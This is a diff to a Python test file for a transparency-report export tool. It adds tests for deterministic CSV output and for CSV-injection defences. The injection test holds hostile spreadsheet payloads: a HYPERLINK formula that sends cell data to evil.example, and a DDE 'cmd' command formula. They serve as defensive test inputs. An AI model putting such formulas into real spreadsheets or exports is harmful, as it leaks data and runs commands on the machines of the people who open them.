@@ -2,6 +2,7 @@
 licences, briefs render offline in headless Chromium, citations name publisher, URL and sha256."""
 from __future__ import annotations
 
+import csv
 import json
 import shutil
 import tempfile
@@ -41,7 +42,7 @@ def _row(source: str, sha: str, url: str, period: str, metric: str, value, **ext
     return row
 
 
-def synthetic_store(path: Path) -> Path:
+def synthetic_store(path: Path, *, reverse: bool = False) -> Path:
     alpha_url, beta_url, ncmec_url = ("https://alpha.example/report", "https://beta.example/db",
                                       "https://ncmec.example/esp")
     docs = [
@@ -74,7 +75,7 @@ def synthetic_store(path: Path) -> Path:
     with writing(path) as store:
         for doc, meta in docs:
             store.add_document(doc, relative_path=doc.path.name, fingerprint="test", meta=meta)
-        store.add_observations(frame(rows))
+        store.add_observations(frame(rows[::-1] if reverse else rows))
         store.refresh_latest()
     return path
 
@@ -442,3 +443,52 @@ def test_a_second_export_in_the_same_folder_keeps_the_first_ones_descriptor(tmp_
              for name in ("datapackage.json", "ig.datapackage.json")}
     assert paths["datapackage.json"][0] == "fb.csv" and paths["ig.datapackage.json"][0] == "ig.csv"
     assert "ig.datapackage.json" in second.output
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/leak?d="&A2,"Click for the full data")'
+
+
+def test_publisher_text_never_becomes_a_live_formula_in_csv_or_xlsx(tmp_path):
+    """CSV injection (OWASP): text starting with = + - @ is neutralised in CSV and stored as text in XLSX."""
+    import openpyxl
+
+    from reports.spreadsheet import csv_safe
+
+    rows = [_row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "content_actioned", 5.0,
+                 value_text="5", policy_label=HOSTILE),
+            _row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "content_actioned", -2.0,
+                 value_text="-2", policy_label="@SUM(A1:A9)", breakdown={"method": "+cmd|' /C calc'!A0"})]
+    with writing(tmp_path / "h.duckdb") as store:
+        store.add_document(_doc(ALPHA_NEW, "alpha-report", "Alpha", "", "https://alpha.example/report", "Alpha"),
+                           relative_path="a.csv", fingerprint="t", meta={})
+        store.add_observations(frame(rows))
+        store.refresh_latest()
+    with Store(tmp_path / "h.duckdb", read_only=True) as store:
+        export(store, tmp_path / "out.csv", "csv")
+        export(store, tmp_path / "out.xlsx", "xlsx")
+    with (tmp_path / "out.csv").open(encoding="utf-8") as handle:
+        back = list(csv.DictReader(handle))
+    assert {r["policy_label"] for r in back} == {"'" + HOSTILE, "'@SUM(A1:A9)"}
+    assert {r["value_text"] for r in back} == {"5", "-2"}  # plain numbers are left as printed
+    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
+    cells = [c for row in book["data"].iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=@+"]
+    assert {c.value for c in cells} >= {HOSTILE, "@SUM(A1:A9)"} and {c.data_type for c in cells} == {"s"}
+    assert csv_safe(pd.DataFrame({"t": ["-", "--", "=1+1", "12", "-3.5%"]}))["t"].tolist() == \
+        ["'-", "'--", "'=1+1", "12", "-3.5%"]
+
+
+def test_exports_are_byte_identical_when_nothing_changed(tmp_path):
+    """The same figures give the same bytes, whatever order the store received them in (a total sort order)."""
+    outputs = []
+    ties = [_row("alpha-report", ALPHA_NEW, "https://alpha.example/report", "2024-H1", "appeals", float(n),
+                 policy_label=label) for n, label in enumerate(("Spam", "Fraud", "Hate", "Scams", "Bullying"))]
+    for reverse in (False, True):
+        path = synthetic_store(tmp_path / f"s{reverse}.duckdb", reverse=reverse)
+        with writing(path) as store:  # figures that differ only in their policy label, in either order
+            store.add_observations(frame(ties[::-1] if reverse else ties))
+            store.refresh_latest()
+        with Store(path, read_only=True) as store:
+            out = tmp_path / f"export-{reverse}.csv"
+            export(store, out, "csv")
+        outputs.append(out.read_bytes())
+    assert outputs[0] == outputs[1]
